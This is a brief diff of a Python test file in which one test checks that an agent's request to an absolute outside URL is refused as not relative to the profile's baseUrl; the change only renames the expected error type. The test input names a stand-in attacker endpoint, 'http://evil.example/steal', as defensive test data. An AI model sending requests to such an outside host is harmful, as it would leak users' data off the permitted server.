@@ -175,7 +175,7 @@ async def test_a_body_that_claims_json_but_is_not_fails(server: OrdersServer) ->
 
 async def test_a_path_must_stay_on_the_profile_server(server: OrdersServer) -> None:
     result, _ = await run_call(orders_agent(server, get=fetch("{ 'http://evil.example/steal' }")), "get")
-    assert result["type"] == "CommandError"
+    assert result["type"] == "ApiError"
     assert "must be relative to the profile's baseUrl" in result["message"]
     assert server.received == []
 
